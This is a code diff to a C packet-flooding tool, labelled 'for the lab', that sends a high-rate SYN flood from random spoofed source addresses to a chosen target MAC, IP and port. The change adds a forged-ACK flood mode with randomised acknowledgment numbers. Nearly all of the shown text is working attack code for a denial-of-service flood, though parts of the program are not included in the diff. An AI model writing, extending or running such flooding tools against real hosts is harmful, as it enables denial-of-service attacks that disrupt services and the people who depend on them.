@@ -1,4 +1,4 @@
-/* A flood of SYN for the lab: as many as one core can send, from random sources. usage: flood INTERFACE TO_MAC TO_IP PORT SECONDS */
+/* A flood of SYN, or of forged ACK, for the lab: as many as one core can send, from random sources. usage: flood INTERFACE TO_MAC TO_IP PORT SECONDS [ack] */
 #include <arpa/inet.h>
 #include <linux/if_packet.h>
 #include <net/ethernet.h>
@@ -34,6 +34,7 @@ static void shuffle(struct frame *frame) {
   frame->ip.saddr = htonl(0xc6120000u | ((uint32_t)random() & 0x1ffffu));
   frame->tcp.source = htons((uint16_t)(1024 + random() % 60000));
   frame->tcp.seq = (uint32_t)random();
+  if (frame->tcp.ack) frame->tcp.ack_seq = (uint32_t)random();
   frame->ip.check = 0;
   frame->ip.check = sum(&frame->ip, sizeof frame->ip, 0);
   frame->tcp.check = 0;
@@ -42,7 +43,7 @@ static void shuffle(struct frame *frame) {
 }
 
 int main(int count, char **words) {
-  if (count != 6) return 2;
+  if (count < 6) return 2;
   struct frame frame = {.ethernet.ether_type = htons(ETHERTYPE_IP)};
   unsigned mac[6];
   if (sscanf(words[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) return 2;
@@ -52,7 +53,8 @@ int main(int count, char **words) {
   frame.ip.daddr = inet_addr(words[3]);
   frame.tcp.dest = htons((uint16_t)atoi(words[4]));
   frame.tcp.doff = 5;
-  frame.tcp.syn = 1;
+  frame.tcp.ack = count > 6;
+  frame.tcp.syn = !frame.tcp.ack;
   frame.tcp.window = htons(1024);
 
   int sock = socket(AF_PACKET, SOCK_RAW, 0);
